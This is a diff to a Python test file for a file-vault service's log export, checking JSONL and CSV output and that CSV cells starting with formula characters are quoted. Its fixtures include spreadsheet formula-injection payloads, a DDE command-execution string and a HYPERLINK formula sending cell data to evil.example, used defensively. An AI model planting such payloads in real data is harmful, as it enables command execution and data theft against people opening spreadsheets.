@@ -2,17 +2,24 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
+from datetime import UTC, datetime, timedelta
+from typing import Any
 
 import httpx
 import pytest
 
+from admin_cli.commands_log import spreadsheet_safe
 from tests import documents as docs
-from tests.http_helpers import upload_ok
+from tests.http_helpers import create_link, upload_ok
 from tests.vault_process import VaultProcess
 
 pytestmark = pytest.mark.slow  # starts its own servers (see docs/testing.md)
+
+COLUMNS = ["at", "fileId", "action", "viewerEmail", "ip", "page"]  # spec 2.4, in this order
 
 
 def one_line_error(result: subprocess.CompletedProcess[str]) -> str:
@@ -95,22 +102,98 @@ def test_log_export_needs_the_business_plan(vault: VaultProcess) -> None:
     assert "Business" in line
 
 
-def test_log_export_writes_jsonl_and_csv(vault: VaultProcess) -> None:
-    account_id, key = vault.new_account("Big Co", plan="business")
+def every_kind_of_entry(vault: VaultProcess, account_id: str, key: str) -> dict[str, str]:
+    """A log with an entry of each action, and one written by an older release (a coalesced
+    view with `count` and `firstAt`, fields the export does not know); the two files' ids."""
     with vault.client(key) as api:
-        kept = upload_ok(api, docs.png(), kind="delivery")
+        kept = upload_ok(api, docs.pdf(), kind="delivery")
         gone = upload_ok(api, docs.png())
-        api.get(f"/files/{kept['id']}/download", headers={"x-viewer-email": "a@b.example"})
-        api.delete(f"/files/{gone['id']}")
+        token = create_link(api, kept["id"], email="reader@example.com")["token"]
+        vault.secrets.append(token)
+        viewer = {"x-viewer-ip": "203.0.113.5"}
+        assert api.get(f"/views/{token}", headers=viewer).status_code == 200
+        page = api.get(f"/views/{token}/pages/1", headers=viewer)
+        assert page.status_code == 200
+        traced = api.post("/trace", content=page.content, timeout=120,
+                          headers={"Content-Type": "image/jpeg"})
+        assert traced.status_code == 200 and traced.json()["found"] is True, traced.text
+        email = {"x-viewer-email": "a@b.example"}
+        assert api.get(f"/files/{kept['id']}/download", headers=email).status_code == 200
+        assert api.post(f"/files/{kept['id']}/revoke-views").json() == {"revoked": 1}
+        assert api.delete(f"/files/{gone['id']}").status_code == 204
+
+    async def legacy(db: Any) -> None:
+        at = datetime.now(UTC)
+        await db.access_log.insert_one({
+            "_id": "view-legacy", "accountId": account_id, "fileId": kept["id"],
+            "action": "view", "at": at, "firstAt": at - timedelta(seconds=30), "count": 3,
+            "viewerEmail": "reader@example.com", "ip": "203.0.113.5"})
+
+    vault.run_service(legacy)
+    return {"kept": kept["id"], "gone": gone["id"]}
+
+
+def test_log_export_writes_every_kind_of_entry_as_jsonl_and_csv(vault: VaultProcess) -> None:
+    account_id, key = vault.new_account("Big Co", plan="business")
+    files = every_kind_of_entry(vault, account_id, key)
     lines = vault.admin("log", "export", account_id).stdout.splitlines()
     entries = [json.loads(line) for line in lines]
-    assert [(e["fileId"], e["action"]) for e in entries] == [
-        (kept["id"], "upload"), (gone["id"], "upload"), (kept["id"], "download"),
-        (gone["id"], "delete")]
-    assert entries[2]["viewerEmail"] == "a@b.example"
-    csv_lines = vault.admin("log", "export", account_id, "--format", "csv").stdout.splitlines()
-    assert csv_lines[0] == "at,fileId,action,viewerEmail,ip,page"
-    assert len(csv_lines) == 5 and "a@b.example" in csv_lines[3]
+    assert sorted(e["action"] for e in entries) == sorted(
+        ["upload", "upload", "view", "view", "page", "trace", "download", "revoke", "delete"])
+    assert all(set(e) <= set(COLUMNS) for e in entries), entries  # no count, firstAt, renderId
+    by_action = {e["action"]: e for e in entries}
+    assert by_action["page"]["page"] == 1 and by_action["page"]["ip"] == "203.0.113.5"
+    assert by_action["download"]["viewerEmail"] == "a@b.example"
+    assert by_action["delete"]["fileId"] == files["gone"]
+
+    exported = vault.admin("log", "export", account_id, "--format", "csv").stdout
+    assert exported.splitlines()[0] == ",".join(COLUMNS)
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    as_text = [{name: str(e.get(name, "")) for name in COLUMNS} for e in entries]
+    assert sorted(rows, key=repr) == sorted(as_text, key=repr)
+
+
+# Valid addresses (RFC 5322 atext) a viewer can give, each a formula in a spreadsheet.
+FORMULA_EMAILS = {"view": "=cmd|'/c_calc'!A0@evil.example", "download": "+1-2@evil.example",
+                  "page": "-2+3@evil.example"}
+
+
+def test_log_export_csv_writes_formula_like_values_as_text(vault: VaultProcess) -> None:
+    account_id, key = vault.new_account("Sheet Co", plan="business")
+    with vault.client(key) as api:
+        file_id = upload_ok(api, docs.pdf(), kind="delivery")["id"]  # downloadable
+        view = create_link(api, file_id, email=FORMULA_EMAILS["view"])["token"]
+        page = create_link(api, file_id, email=FORMULA_EMAILS["page"],
+                           viewerName='=HYPERLINK("https://evil.example/?"&A1,"open")')["token"]
+        vault.secrets += [view, page]
+        assert api.get(f"/views/{view}").status_code == 200
+        assert api.get(f"/views/{page}/pages/1").status_code == 200
+        email = {"x-viewer-email": FORMULA_EMAILS["download"]}
+        assert api.get(f"/files/{file_id}/download", headers=email).status_code == 200
+    entries = [json.loads(line) for line in vault.admin("log", "export", account_id).stdout
+               .splitlines()]
+    emails = {e["action"]: e.get("viewerEmail") for e in entries}
+    assert {action: emails[action] for action in FORMULA_EMAILS} == FORMULA_EMAILS  # as given
+    exported = vault.admin("log", "export", account_id, "--format", "csv").stdout
+    assert "HYPERLINK" not in exported  # the viewer's name is not a column of the export
+    rows = {row["action"]: row for row in csv.DictReader(io.StringIO(exported))}
+    assert {action: rows[action]["viewerEmail"] for action in FORMULA_EMAILS} == {
+        action: "'" + email for action, email in FORMULA_EMAILS.items()}
+    assert rows["upload"]["viewerEmail"] == "" and rows["page"]["page"] == "1"
+    for row in rows.values():  # no cell a spreadsheet would evaluate
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                       for cell in row.values()), row
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_every_formula_start_owasp_names_is_quoted(value: str) -> None:
+    assert spreadsheet_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["reader@example.com", "2026-11-26T10:00:00.000Z", "a=b",
+                                   "203.0.113.5", "::1", "", 1, None])
+def test_other_values_are_written_unchanged(value: object) -> None:
+    assert spreadsheet_safe(value) == value
 
 
 def test_master_key_rotation_rewraps_without_touching_blobs(vault: VaultProcess,
